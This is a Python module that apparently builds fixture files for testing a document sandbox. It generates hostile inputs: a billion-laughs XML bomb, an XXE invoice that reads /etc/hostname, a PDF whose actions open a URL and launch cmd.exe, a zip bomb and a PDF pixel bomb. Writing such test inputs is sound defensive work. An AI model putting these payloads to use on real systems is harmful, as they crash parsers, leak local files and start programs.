"""Files that are broken, and files that mean no good: none of them is ever to be posted.

They are harmless to whoever only keeps them: nothing here runs, calls out or grows unless it is opened by a
program that ought not to open it.
"""

import io
import zipfile
import zlib
from collections.abc import Iterator

from nattbok.sandbox.documents import pdf
from nattbok.sandbox.writing import ubl

_BOMB_MEGABYTES = 40


def files(whole: bytes) -> Iterator[tuple[str, bytes, bool]]:
    """(name, content, whether it means harm); `whole` is a sound PDF that some of them are made of."""
    yield "avbrutt.pdf", whole[: len(whole) // 2], False
    yield "tom.pdf", b"%PDF-1.7\n%%EOF\n", False
    yield "faktura.pdf", b"<html><body><script>alert(1)</script>Faktura</body></html>", True
    yield "faktura.xml", laughs(), True
    yield "ehf.xml", outside(), True
    yield "skript.pdf", script(), True
    yield "pakke.pdf", bomb(), True
    yield "bilde.pdf", pdf_bomb(), True
    yield "tegning.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8, False


def laughs() -> bytes:
    """An XML document that grows to a billion words in whoever expands its entities."""
    entities = ['<!ENTITY a0 "ha">']
    entities += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f'<?xml version="1.0"?><!DOCTYPE x [{"".join(entities)}]><x>&a9;</x>'.encode()


def outside() -> bytes:
    """An e-invoice that asks its reader to fetch a file of the machine it is read on."""
    kind = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
    common = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
    return (
        '<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        f'<Invoice xmlns="{kind}" xmlns:cbc="{common}">'
        f"<cbc:CustomizationID>{ubl.CUSTOMIZATION}</cbc:CustomizationID><cbc:ID>&x;</cbc:ID></Invoice>"
    ).encode()


def script() -> bytes:
    """A PDF that would run JavaScript and start a program when it is opened."""
    page = [pdf.Text(60, 60, "FAKTURA", 20), pdf.Text(60, 100, "Trykk her for å se fakturaen")]
    actions = "/OpenAction << /S /JavaScript /JS (app.launchURL('http://192.0.2.1/');) >> "
    return pdf.write([page], extra=actions + "/AA << /WC << /S /Launch /F (cmd.exe) >> >> ")


def bomb() -> bytes:
    """A zip archive of zeros, a thousand times as large inside."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("faktura.pdf", bytes(_BOMB_MEGABYTES * 1_000_000))
    return kept.getvalue()


def pdf_bomb() -> bytes:
    """A PDF whose page is a picture of more pixels than anybody has memory for."""
    side = 60_000
    packed = zlib.compress(bytes(1_000_000))
    head = (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Count 1 /Kids [3 0 R] >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        b"/Resources << /XObject << /Im 4 0 R >> >> >>\nendobj\n"
    )
    image = (
        f"4 0 obj\n<< /Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace /DeviceGray "
        f"/BitsPerComponent 8 /Filter /FlateDecode /Length {len(packed)} >>\nstream\n"
    ).encode()
    drawing = b"q 595 0 0 842 0 0 cm /Im Do Q"
    tail = f"5 0 obj\n<< /Length {len(drawing)} >>\nstream\n".encode() + drawing + b"\nendstream\nendobj\n"
    body = head + image + packed + b"\nendstream\nendobj\n" + tail
    return body + b"trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n"
